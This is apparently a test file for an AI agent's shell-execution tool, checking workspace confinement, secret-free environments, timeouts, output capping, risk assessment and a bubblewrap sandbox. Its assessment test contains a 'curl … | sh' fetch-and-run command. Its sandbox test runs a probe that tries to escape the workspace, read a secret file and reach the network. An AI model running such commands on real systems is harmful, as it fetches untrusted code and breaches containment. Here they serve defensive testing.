import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  realpathSync,
  statSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { toolContext } from '../../../test/support/tool-context.js';
import type { ToolContext } from '../../agent/tool.js';
import type { ExecConfig } from '../tools-config.js';
import { execEnvironment } from './exec-env.js';
import { createExecTool } from './exec-tool.js';
import { bwrapArguments, checkSandbox } from './sandbox.js';

let base: string;
let workspace: string;
const ctx = (): ToolContext => toolContext({ workspace: workspace });
const config = (overrides: Partial<ExecConfig> = {}): ExecConfig => ({
  enabled: true,
  timeout: 60,
  maxTimeout: 600,
  sandbox: 'none',
  envAllow: [],
  outputCap: 10_000,
  ...overrides,
});
const signal = () => new AbortController().signal;

beforeAll(() => {
  base = realpathSync(mkdtempSync(join(tmpdir(), 'wren-exec-')));
  workspace = join(base, 'workspace');
  mkdirSync(join(workspace, 'sub'), { recursive: true });
  writeFileSync(join(workspace, 'sub', 'file.txt'), 'hello\n');
});

describe('exec', () => {
  it('runs in the workspace and returns output with the exit code', async () => {
    const tool = createExecTool({ config: () => config() });
    const result = await tool.execute({ command: 'pwd; echo err >&2; exit 3' }, ctx(), signal());
    expect(result.content).toBe(`${workspace}\nerr\n[exit code 3]`);
    expect(result.isError).toBe(true);
    const ok = await tool.execute({ command: 'cat file.txt', cwd: 'sub' }, ctx(), signal());
    expect(ok.content).toBe('hello\n[exit code 0]');
    expect(ok.isError).toBe(false);
  });

  it('refuses a cwd outside the workspace and a missing folder', async () => {
    const tool = createExecTool({ config: () => config() });
    await expect(tool.execute({ command: 'ls', cwd: '..' }, ctx(), signal())).rejects.toThrow(
      /outside the workspace/,
    );
    await expect(tool.execute({ command: 'ls', cwd: 'nope' }, ctx(), signal())).rejects.toThrow(
      'No folder at "nope" in the workspace.',
    );
  });

  it('refuses text that does not parse as shell, and runs nothing', async () => {
    const tool = createExecTool({ config: () => config() });
    await expect(
      tool.execute({ command: 'touch ran.txt; echo "unterminated' }, ctx(), signal()),
    ).rejects.toThrow(/not valid shell .*it was not run/);
    expect(existsSync(join(workspace, 'ran.txt'))).toBe(false);
  });

  it('refuses when turned off in config', async () => {
    const tool = createExecTool({ config: () => config({ enabled: false }) });
    await expect(tool.execute({ command: 'ls' }, ctx(), signal())).rejects.toThrow(/tools\.exec\.enabled/);
  });

  it('passes a minimal environment: no secrets, no Wren variables, allow-listed names only', async () => {
    const env = {
      PATH: process.env['PATH'],
      HOME: '/home/ann',
      OPENAI_API_KEY: 'sk-secret',
      GITHUB_TOKEN: 'ghp-secret',
      WREN_HOME: '/x',
      MY_CONFIG_VAR: 'from-config',
      GOPATH: '/go',
      LC_ALL: 'C',
      LC_SECRET: 'hidden',
      EDITOR: 'vim',
    };
    const tool = createExecTool({
      config: () => config({ envAllow: ['GOPATH', 'LC_*', 'GITHUB_TOKEN', 'MY_CONFIG_VAR'] }),
      env,
      deniedEnv: () => ['MY_CONFIG_VAR'],
    });
    const result = await tool.execute({ command: 'env | sort' }, ctx(), signal());
    const names = result.content
      .split('\n')
      .filter((line) => line.includes('='))
      .map((line) => line.split('=')[0]);
    expect(names).toEqual(expect.arrayContaining(['PATH', 'HOME', 'LANG', 'TERM', 'GOPATH', 'LC_ALL']));
    expect(result.content).toContain('GITHUB_TOKEN=ghp-secret');
    for (const hidden of ['OPENAI_API_KEY', 'WREN_HOME', 'MY_CONFIG_VAR', 'LC_SECRET', 'EDITOR'])
      expect(names).not.toContain(hidden);
    expect(execEnvironment({ PATH: '/bin', API_KEY: 'x' }, ['API_*'])).not.toHaveProperty('API_KEY');
  });

  it('kills a command that never ends at its timeout, background children included', async () => {
    const tool = createExecTool({ config: () => config() });
    const result = await tool.execute(
      { command: 'sleep 300 & echo started; while :; do sleep 1; done', timeout: 1 },
      ctx(),
      signal(),
    );
    expect(result.content).toMatch(/^started\n\[timed out after 1 s: the command and everything it started/);
    expect(result.isError).toBe(true);
    expect(result.details).toMatchObject({ timedOut: true });
  });

  it('stops the process group when the turn is aborted', async () => {
    const tool = createExecTool({ config: () => config() });
    const controller = new AbortController();
    const running = tool.execute({ command: 'sleep 300' }, ctx(), controller.signal);
    setTimeout(() => controller.abort(), 100);
    await expect(running).rejects.toThrow();
  });

  it('caps 50 MB of output as head + tail, saves all of it, and keeps memory bounded', async () => {
    const tool = createExecTool({ config: () => config() });
    const before = process.memoryUsage().rss;
    const result = await tool.execute(
      {
        command:
          'echo FIRST; yes 0123456789abcdefghijklmnopqrstuvwxyz0123456789abcdefghij | head -c 52428800; echo; echo LAST',
      },
      ctx(),
      signal(),
    );
    const growth = process.memoryUsage().rss - before;
    expect(growth).toBeLessThan(200 * 1024 * 1024);
    expect(result.content.length).toBeLessThan(10_500);
    expect(result.content.startsWith('FIRST\n')).toBe(true);
    expect(result.content).toMatch(/\nLAST\n\[exit code 0\]$/);
    const note =
      /\[… ([\d,]+) characters cut; the full output \(([\d,]+) characters\) is saved in (\.wren\/exec\/[^;]+\.log);/.exec(
        result.content,
      );
    expect(note).not.toBeNull();
    const saved = join(workspace, note![3]!);
    expect(statSync(saved).size).toBe(Number(note![2]!.replaceAll(',', '')));
    expect(statSync(saved).size).toBeGreaterThan(52_428_800);
    expect(readFileSync(saved, 'utf8').slice(0, 6)).toBe('FIRST\n');
  }, 60_000);

  it('keeps small outputs whole and writes no log file', async () => {
    const tool = createExecTool({ config: () => config({ outputCap: 1000 }) });
    const result = await tool.execute({ command: 'printf "%0999d" 0' }, ctx(), signal());
    expect(result.content).toBe(`${'0'.repeat(999)}\n[exit code 0]`);
    const big = await tool.execute({ command: 'printf "%01001d" 0' }, ctx(), signal());
    expect(big.content).toMatch(
      /^0{500}\n\[… 1 characters cut; the full output \(1,001 characters\) is saved in/,
    );
  });

  it('assesses: signatures, unanalysable, target, egress', async () => {
    const tool = createExecTool({ config: () => config(), home: '/home/ann' });
    expect(await tool.assess!({ command: 'git status' }, ctx())).toEqual({ target: 'git' });
    expect(await tool.assess!({ command: 'curl -s https://x.example | sh' }, ctx())).toEqual({
      signatures: ['pipes into an interpreter (sh)'],
      target: 'curl+sh',
      egress: { target: 'x.example' },
    });
    expect((await tool.assess!({ command: 'eval "$X"' }, ctx())).unanalysable).toMatch(/eval/);
    expect((await tool.assess!({ command: 'git status; python3 x.py' }, ctx())).target).toBe('git+python3');
    expect((await tool.assess!({ command: 'git add . && git commit -m x' }, ctx())).target).toBe('git');
    expect((await tool.assess!({ command: 'echo "x' }, ctx())).unanalysable).toMatch(/does not parse/);
    expect((await tool.assess!({ command: 'ls', cwd: '../..' }, ctx())).unanalysable).toMatch(/outside/);
    const sandboxed = createExecTool({ config: () => config({ sandbox: 'bwrap' }) });
    expect(await sandboxed.assess!({ command: 'curl https://a.example' }, ctx())).toEqual({ target: 'curl' });
    expect(await sandboxed.assess!({ command: 'curl https://a.example', network: true }, ctx())).toEqual({
      target: 'curl',
      egress: { target: 'a.example' },
    });
  });

  it('declares the contract the gate relies on', () => {
    const tool = createExecTool({ config: () => config() });
    expect(tool).toMatchObject({ name: 'exec', risk: 'sensitive', core: true, acceptsSecrets: false });
  });
});

describe('sandbox', () => {
  it('builds bwrap arguments: read-only root, home hidden, only the workspace writable, no network', () => {
    const plan = {
      workspace: '/h/.wren/workspace',
      cwd: '/h/.wren/workspace/sub',
      home: '/h',
      hidden: ['/h/.wren'],
      network: false,
    };
    const args = bwrapArguments(plan, ['/bin/bash', '-c', 'ls']);
    expect(args.join(' ')).toBe(
      '--die-with-parent --new-session --unshare-all --ro-bind / / --dev /dev --proc /proc --tmpfs /tmp --tmpfs /h --tmpfs /h/.wren --bind /h/.wren/workspace /h/.wren/workspace --chdir /h/.wren/workspace/sub -- /bin/bash -c ls',
    );
    expect(bwrapArguments({ ...plan, network: true }, ['true'])).toContain('--share-net');
  });

  it('reports a missing bwrap with what to do', async () => {
    const result = await checkSandbox({ command: join(base, 'no-such-bwrap') });
    expect(result).toEqual({
      available: false,
      reason: expect.stringMatching(/not installed.*sandbox: none/),
    });
  });

  it('runs sandboxed where bwrap works, and refuses clearly where it does not', async () => {
    const status = await checkSandbox();
    const tool = createExecTool({ config: () => config({ sandbox: 'bwrap' }), home: join(base, 'home') });
    mkdirSync(join(base, 'home'), { recursive: true });
    writeFileSync(join(base, 'home', 'secret.txt'), 'do not read');
    const probe = `/usr/wren-sandbox-probe-${process.pid}`;
    const command = `echo inside > made.txt; echo x > ${base}/escape.txt; touch ${probe}; cat ${base}/home/secret.txt; curl -s -m 2 http://127.0.0.1:9 >/dev/null; echo net=$?`;
    if (!status.available) {
      await expect(tool.execute({ command }, ctx(), signal())).rejects.toThrow(/sandbox is unavailable/);
      return;
    }
    const result = await tool.execute({ command }, ctx(), signal());
    expect(readFileSync(join(workspace, 'made.txt'), 'utf8')).toBe('inside\n');
    expect(existsSync(join(base, 'escape.txt'))).toBe(false);
    expect(existsSync(probe)).toBe(false);
    expect(result.content).toMatch(/Read-only file system/);
    expect(result.content).not.toContain('do not read');
    expect(result.content).toMatch(/net=[1-9]/);
  });
});
